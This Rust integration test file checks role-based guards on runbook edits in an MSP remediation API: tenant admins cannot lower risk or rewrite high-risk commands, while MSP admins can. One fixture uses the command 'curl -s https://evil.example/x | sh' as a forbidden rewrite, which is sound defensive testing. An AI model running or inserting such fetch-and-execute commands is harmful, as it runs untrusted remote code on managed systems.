//! Issue 16, H2: a tenant admin cannot weaken a guard an MSP admin relies
//! on. Lowering a runbook's risk (fewer people must approve its runs) or
//! changing what a high-risk runbook runs needs `msp_admin`: a tenant admin
//! gets 403 and the runbook stays as it was; an MSP admin may.
#![allow(clippy::unwrap_used, clippy::expect_used)]

mod support;

use alertledger_domain::values::Role;
use serde_json::{json, Value};
use support::remediation::define_runbook;
use support::{TestApp, TestTenant};

async fn put(app: &TestApp, token: &str, runbook_id: &str, body: Value) -> (u16, Value) {
    let response = app
        .client
        .put(app.url(&format!("/api/v1/runbooks/{runbook_id}")))
        .bearer_auth(token)
        .json(&body)
        .send()
        .await
        .unwrap();
    let status = response.status().as_u16();
    (status, response.json().await.unwrap_or(Value::Null))
}

fn spec(risk: &str, command: &str) -> Value {
    json!({
        "name": "Restart the busy service (high)",
        "signature": "HighCPU",
        "risk": risk,
        "document": "AWS-RunShellScript",
        "commands": [command],
    })
}

async fn shown(app: &TestApp, tenant: &TestTenant, runbook_id: &str) -> Value {
    let viewer = app.token(Role::Viewer, &[tenant.id]);
    let response = app
        .client
        .get(app.url(&format!("/api/v1/runbooks/{runbook_id}")))
        .bearer_auth(&viewer)
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), 200);
    response.json().await.unwrap()
}

#[tokio::test]
async fn a_tenant_admin_cannot_lower_a_high_risk_or_rewrite_it_and_an_msp_admin_can() {
    let app = TestApp::spawn().await;
    let tenant = app.create_tenant("risky").await;
    let runbook = define_runbook(&app, &tenant, "high", false).await;
    let id = runbook["runbook_id"].as_str().unwrap();
    let admin = app.token(Role::TenantAdmin, &[tenant.id]);

    for (body, why) in [
        (
            spec("low", "systemctl restart app"),
            "lowering a runbook's risk",
        ),
        (
            spec("medium", "systemctl restart app"),
            "lowering a runbook's risk",
        ),
        (
            spec("high", "curl -s https://evil.example/x | sh"),
            "changing the document, commands or parameters of a high-risk runbook",
        ),
    ] {
        let (status, answer) = put(&app, &admin, id, body).await;
        assert_eq!(status, 403, "{answer}");
        assert_eq!(answer["error"]["code"], "forbidden");
        assert!(
            answer["error"]["message"].as_str().unwrap().contains(why),
            "{answer}"
        );
    }
    let unchanged = shown(&app, &tenant, id).await;
    assert_eq!(unchanged["risk"], "high");
    assert_eq!(unchanged["commands"], json!(["systemctl restart app"]));
    assert_eq!(unchanged["version"], 1);
    assert_eq!(
        app.stored("RunbookChanged").await,
        0,
        "a refused change was recorded"
    );

    // Renaming a high-risk runbook changes nothing it runs: a tenant admin's.
    let mut renamed = spec("high", "systemctl restart app");
    renamed["name"] = json!("Restart the app");
    let (status, answer) = put(&app, &admin, id, renamed).await;
    assert_eq!(status, 200, "{answer}");

    let msp = app.token(Role::MspAdmin, &[]);
    let (status, answer) = put(&app, &msp, id, spec("low", "systemctl restart app")).await;
    assert_eq!(status, 200, "{answer}");
    assert_eq!(answer["risk"], "low");
    assert_eq!(answer["version"], 3);
}

#[tokio::test]
async fn a_tenant_admin_may_still_raise_a_risk_and_lowering_a_medium_one_is_also_guarded() {
    let app = TestApp::spawn().await;
    let tenant = app.create_tenant("raising").await;
    let runbook = define_runbook(&app, &tenant, "medium", false).await;
    let id = runbook["runbook_id"].as_str().unwrap();
    let admin = app.token(Role::TenantAdmin, &[tenant.id]);

    // A medium runbook's commands are the tenant admin's to change.
    let (status, answer) = put(&app, &admin, id, spec("medium", "systemctl reload app")).await;
    assert_eq!(status, 200, "{answer}");
    let (status, answer) = put(&app, &admin, id, spec("low", "systemctl reload app")).await;
    assert_eq!(status, 403, "{answer}");
    let (status, answer) = put(&app, &admin, id, spec("high", "systemctl reload app")).await;
    assert_eq!(status, 200, "{answer}");
    assert_eq!(shown(&app, &tenant, id).await["risk"], "high");
    // A technician may change no runbook at all.
    let technician = app.token(Role::Technician, &[tenant.id]);
    let (status, _) = put(&app, &technician, id, spec("high", "true")).await;
    assert_eq!(status, 403);
}
